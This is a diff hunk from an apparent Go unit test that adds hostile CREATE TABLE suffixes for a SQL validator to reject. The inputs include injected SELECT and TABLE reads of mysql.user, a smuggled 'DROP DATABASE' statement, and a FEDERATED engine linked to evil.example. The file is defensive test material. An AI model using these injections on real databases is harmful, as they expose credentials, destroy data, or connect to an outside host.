@@ -39,6 +39,10 @@ func TestHostileTables(t *testing.T) {
 		{body + " ENGINE=InnoDB COMMENT=\"'\" AS SELECT 1 AS id -- '", "SELECT"},
 		{body + " ENGINE=InnoDB COMMENT='\\' AS SELECT 1 AS id -- ", ""}, // a comment that does not end, as the target reads it
 		{body + " ENGINE=InnoDB TABLE mysql.user", "TABLE"},
+		{body + " ENGINE=InnoDB DATA SELECT 1", "SELECT"},
+		{body + " ENGINE=InnoDB INDEX TABLE mysql.user", "TABLE"},
+		{body + " ENGINE=InnoDB VALUES IN TABLE mysql.user", "TABLE"},
+		{body + " PARTITION BY HASH (engine) AS SELECT 1", "SELECT"},
 		{body + " ENGINE=InnoDB VALUES ROW(1)", "VALUES"},
 		{body + " ENGINE=InnoDB; DROP DATABASE important", "second statement"},
 		{body + " ENGINE=FEDERATED CONNECTION='mysql://app@evil.example/s/t'", `engine "FEDERATED"`},
